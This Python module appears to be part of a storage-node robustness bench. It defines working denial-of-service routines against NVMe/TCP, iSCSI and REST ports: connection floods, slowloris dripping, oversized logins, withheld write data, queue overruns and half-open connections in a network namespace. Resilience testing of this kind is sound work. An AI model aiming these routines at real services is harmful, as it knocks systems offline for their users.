"""Attacks on a node, each as one function that goes on until it is told to stop and says how much of it there was.

All stay on this machine: they come from loopback addresses, or from a network namespace of their own.
"""

from __future__ import annotations

import ctypes
import os
import selectors
import socket
import subprocess
import threading
from collections import deque
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from threading import Event

from bench.hostile import (
    IC_REQ,
    MIB,
    NvmeHost,
    capsule,
    close_all,
    dial,
    io_command,
    is_open,
    iscsi_login,
    iscsi_session,
    iscsi_write,
)

ADDRESSES = [f"127.0.1.{last}" for last in range(1, 33)]
PAUSE_S = 0.05
FLOOD_PER_PAUSE = 100
FLOOD_OPEN_MAX = 4000
DRIPPING = 512
HOARDERS = 32
WRITES_PER_HOARDER = 30  # The queue has 31 places.
UNASKED_PER_SESSION = 120  # The window has 128.
OVERRUN_COMMANDS = 2000
SILENT_HOSTS = 64
KEEP_ALIVE_MS = 1000
REST_CLIENTS = 600
REQUESTS_PER_PAUSE = 10
PIPELINED_REQUESTS = 100
STORM_CLIENTS = 64
STORM_PAUSE_S = 0.001
TEXT_BYTES_MAX = (1 << 24) - 1
# Names and addresses of a network namespace that no other run on this machine has.
_PID = os.getpid()
NAMESPACE, LINK = f"sds-attack-{_PID}", f"sds{_PID}a"
NEAR, FAR = (f"10.213.{_PID >> 6 & 255}.{(_PID & 63) * 4 + last}" for last in (1, 2))
_CLONE_NEWNET = 0x40000000


@dataclass(frozen=True)
class Victim:
    """Where a node listens, and the names of a volume's exports."""

    nvme_port: int
    iscsi_port: int
    rest_port: int
    nqn: str
    iqn: str


Attack = Callable[[Victim, Event], int]


def connection_flood(victim: Victim, stop: Event) -> int:
    """Connections that say nothing, two thousand a second from 32 addresses, four thousand of them kept."""
    kept: deque[socket.socket] = deque()
    made = 0
    while not stop.wait(PAUSE_S):
        for _ in range(FLOOD_PER_PAUSE):
            one = socket.socket()
            with suppress(OSError):
                one.bind((ADDRESSES[made % len(ADDRESSES)], 0))
                one.setblocking(False)
                one.connect_ex(("127.0.0.1", (victim.nvme_port, victim.iscsi_port)[made & 1]))
            kept.append(one)
            made += 1
            if len(kept) > FLOOD_OPEN_MAX:
                kept.popleft().close()
    close_all(kept)
    return made


def _drip(ports: Sequence[int], messages: Sequence[bytes], stop: Event) -> int:
    """Connections that send a message a byte at a time; what the node closes is opened anew."""
    open_now: dict[int, tuple[socket.socket, Iterator[bytes]]] = {}
    made = 0
    while not stop.wait(PAUSE_S):
        for number in range(DRIPPING):
            if number not in open_now:
                with suppress(OSError):
                    one = dial(ports[number % len(ports)], ADDRESSES[number % len(ADDRESSES)])
                    one.setblocking(False)
                    message = messages[number % len(messages)]
                    open_now[number] = one, (message[at : at + 1] for at in range(len(message) - 1))
                    made += 1
                continue
            one, rest = open_now[number]
            try:
                one.send(next(rest, b""))
            except OSError:
                one.close()
                del open_now[number]
    close_all([one for one, _ in open_now.values()])
    return made


def dripped_logins(victim: Victim, stop: Event) -> int:
    """ICReq, and login requests, a byte at a time (slowloris)."""
    login = iscsi_login("iqn.2026-11.a:drips", victim.iqn)
    return _drip((victim.nvme_port, victim.iscsi_port), (IC_REQ, login), stop)


def dripped_requests(victim: Victim, stop: Event) -> int:
    """REST requests whose headers come a byte at a time (slowloris)."""
    headers = b"GET /v1/volumes HTTP/1.1\r\n" + b"".join(b"X-%d: x\r\n" % number for number in range(1000))
    return _drip((victim.rest_port,), (headers,), stop)


def dripped_commands(victim: Victim, stop: Event) -> int:
    """Hosts that are logged in and send commands a byte at a time; how many bytes."""
    hosts = _hosts(victim, "drips", HOARDERS)
    whole = capsule(io_command(2, 1, 4096))
    sent = 0
    while not stop.wait(PAUSE_S):
        for host in hosts:
            with suppress(OSError):
                host.queue.send(whole[sent % len(whole) :][:1])
        sent += 1
    _close(hosts)
    return sent * len(hosts)


def huge_logins(victim: Victim, stop: Event) -> int:
    """Logins that claim 16 MiB of text and send it, and logins whose text goes on in PDU after PDU."""
    claims = iscsi_login("iqn.2026-11.a:huge", victim.iqn, TEXT_BYTES_MAX)
    goes_on = iscsi_login("iqn.2026-11.a:huge", victim.iqn, flags=0x44)
    text = b"X-key=" + b"v" * 8186
    open_now: dict[int, socket.socket] = {}
    made = 0
    while not stop.wait(PAUSE_S):
        for number in range(HOARDERS):
            try:
                if number not in open_now:
                    open_now[number] = dial(victim.iscsi_port, ADDRESSES[number % len(ADDRESSES)])
                    open_now[number].setblocking(False)
                    open_now[number].send(claims if number & 1 else goes_on)
                    made += 1
                open_now[number].send(text if number & 1 else goes_on)
            except BlockingIOError:
                pass
            except OSError:
                if number in open_now:
                    open_now.pop(number).close()
    close_all(list(open_now.values()))
    return made


def data_that_never_comes(victim: Victim, stop: Event) -> int:
    """Writes of 1 MiB, as many as queues have places; what the node asks for (R2T) is not sent."""
    hosts = _hosts(victim, "hoards", HOARDERS)
    for host in hosts:
        with suppress(OSError):
            host.queue.sendall(b"".join(capsule(io_command(1, cid, MIB)) for cid in range(WRITES_PER_HOARDER)))
    stop.wait()
    _close(hosts)
    return len(hosts) * WRITES_PER_HOARDER


def unasked_data(victim: Victim, stop: Event) -> int:
    """iSCSI writes of 1 MiB of which the first 512 bytes come at once and the others never."""
    sessions, made = [], 0
    for number in range(HOARDERS):
        with suppress(OSError):
            one = iscsi_session(victim.iscsi_port, f"iqn.2026-11.a:unasked-{number}", victim.iqn)
            sessions.append(one)
            one.sendall(b"".join(iscsi_write(command, MIB, 512) for command in range(1, UNASKED_PER_SESSION + 1)))
            made += UNASKED_PER_SESSION
    stop.wait()
    close_all(sessions)
    return made


def overrun_queues(victim: Victim, stop: Event) -> int:
    """Reads of 64 KiB beyond what the queue takes, whose answers nobody reads."""
    reads = b"".join(capsule(io_command(2, cid, 64 << 10)) for cid in range(OVERRUN_COMMANDS))
    made = 0
    while not stop.is_set():
        hosts = _hosts(victim, "overruns", 8)
        for host in hosts:
            host.queue.settimeout(0.2)
            with suppress(OSError):
                host.queue.sendall(reads)
        made += len(hosts) * OVERRUN_COMMANDS
        stop.wait(0.5)
        _close(hosts)
    return made


def silent_hosts(victim: Victim, stop: Event) -> int:
    """Hosts that promise a Keep Alive each second and send none; how many the node has let go for it."""
    hosts: list[NvmeHost] = []
    gone = 0
    while not stop.wait(PAUSE_S):
        if len(hosts) < SILENT_HOSTS:
            hosts += _hosts(victim, f"silent-{gone}", 8, KEEP_ALIVE_MS)
        for host in [host for host in hosts if not is_open(host.admin)]:
            gone += 1
            host.close()
            hosts.remove(host)
    _close(hosts)
    return gone


def request_flood(victim: Victim, stop: Event) -> int:
    """REST requests without a token, too large, unfinished, or none at all, over more connections than it takes."""
    head = b"POST /v1/volumes HTTP/1.1\r\nHost: sds\r\n"
    kinds = (
        b"GET /v1/volumes HTTP/1.1\r\nHost: sds\r\n\r\n",
        head + b"Content-Length: 1000000000\r\n\r\n" + b"x" * 4096,
        head + b"Content-Length: 100\r\n\r\n",
        b"\x16\x03\x01" * 100,
    )
    selector = selectors.DefaultSelector()
    made = 0

    def begin() -> None:
        nonlocal made
        with suppress(OSError):
            one = dial(victim.rest_port, ADDRESSES[made % len(ADDRESSES)])
            one.setblocking(False)
            one.send(kinds[made % len(kinds)])
            selector.register(one, selectors.EVENT_READ, made % len(kinds))
            made += 1

    while not stop.wait(PAUSE_S):
        for _ in range(min(REQUESTS_PER_PAUSE, REST_CLIENTS - len(selector.get_map()))):
            begin()
        for number, (key, _) in enumerate(selector.select(0)):
            one = key.fileobj
            assert isinstance(one, socket.socket)
            with suppress(OSError):
                if one.recv(1 << 16) and key.data == 0 and number < REQUESTS_PER_PAUSE:
                    one.send(kinds[0])
                    made += 1
                    continue
            selector.unregister(one)
            one.close()
    close_all([key.fileobj for key in selector.get_map().values() if isinstance(key.fileobj, socket.socket)])
    return made


def request_storm(victim: Victim, stop: Event) -> int:
    """REST requests without a token, each connection full of them (pipelined), as fast as they are taken."""
    requests = b"GET /v1/volumes HTTP/1.1\r\nHost: sds\r\n\r\n" * PIPELINED_REQUESTS
    open_now: list[socket.socket] = []
    made = 0
    while not stop.wait(STORM_PAUSE_S):
        while len(open_now) < STORM_CLIENTS:
            one = dial(victim.rest_port, ADDRESSES[made % len(ADDRESSES)])
            one.setblocking(False)
            open_now.append(one)
            made += 1
        for one in list(open_now):
            try:
                one.send(requests)
                while one.recv(1 << 16):
                    pass
                raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                one.close()
                open_now.remove(one)
    close_all(open_now)
    return made


class HalfOpen:
    """Hosts in a network namespace that is cut off: no FIN, no RST, no answer comes from them any more.

    Args:
        victim: a node that listens on all addresses.
    """

    def __init__(self, victim: Victim) -> None:
        self._sockets: list[socket.socket] = []
        self.connections = 0
        with _inside(NAMESPACE):
            way = {"source": FAR, "address": NEAR}
            for number in range(8):
                name = f"nqn.2026-11.io.sds:cut-off-{number}"
                host = NvmeHost(victim.nvme_port, name, victim.nqn, KEEP_ALIVE_MS, **way)
                host.queue.sendall(capsule(io_command(1, 1, MIB)) + capsule(io_command(2, 2, MIB)))
                session = iscsi_session(victim.iscsi_port, f"iqn.2026-11.a:cut-off-{number}", victim.iqn, **way)
                self._sockets += [*host.sockets, session]
        self.connections = len(self._sockets)
        subprocess.run(["ip", "link", "set", LINK, "down"], check=True)

    def close(self) -> None:
        """Ends what the node no longer knows."""
        close_all(self._sockets)


@contextmanager
def network() -> Iterator[None]:
    """A network namespace with one link to this machine.

    Raises:
        CalledProcessError: this process may not make one.
    """
    subprocess.run(["ip", "netns", "add", NAMESPACE], check=True)
    try:
        link = ["ip", "link", "add", LINK, "type", "veth", "peer", "name", "far", "netns", NAMESPACE]
        subprocess.run(link, check=True)
        subprocess.run(["ip", "address", "add", f"{NEAR}/30", "dev", LINK], check=True)
        subprocess.run(["ip", "link", "set", LINK, "up"], check=True)
        inside = ["ip", "-n", NAMESPACE]
        subprocess.run([*inside, "address", "add", f"{FAR}/30", "dev", "far"], check=True)
        subprocess.run([*inside, "link", "set", "far", "up"], check=True)
        yield
    finally:
        # The link goes with the namespace.
        subprocess.run(["ip", "netns", "delete", NAMESPACE], check=True)


@contextmanager
def _inside(namespace: str) -> Iterator[None]:
    """This thread's new sockets are the namespace's."""
    libc = ctypes.CDLL(None, use_errno=True)
    with Path("/proc/self/task", str(threading.get_native_id()), "ns/net").open() as before:
        with Path("/run/netns", namespace).open() as there:
            if libc.setns(there.fileno(), _CLONE_NEWNET):
                raise OSError(ctypes.get_errno(), "setns")
        try:
            yield
        finally:
            if libc.setns(before.fileno(), _CLONE_NEWNET):
                os._exit(1)  # Nothing that follows would be where it believes to be.


def _hosts(victim: Victim, name: str, count: int, keep_alive_ms: int = 0) -> list[NvmeHost]:
    hosts = []
    for number in range(count):
        with suppress(OSError):
            hosts.append(NvmeHost(victim.nvme_port, f"nqn.2026-11.io.sds:{name}-{number}", victim.nqn, keep_alive_ms))
    return hosts


def _close(hosts: Sequence[NvmeHost]) -> None:
    for host in hosts:
        host.close()


ATTACKS: tuple[Attack, ...] = (
    connection_flood,
    dripped_logins,
    dripped_commands,
    huge_logins,
    data_that_never_comes,
    unasked_data,
    overrun_queues,
    silent_hosts,
    dripped_requests,
    request_flood,
    request_storm,
)
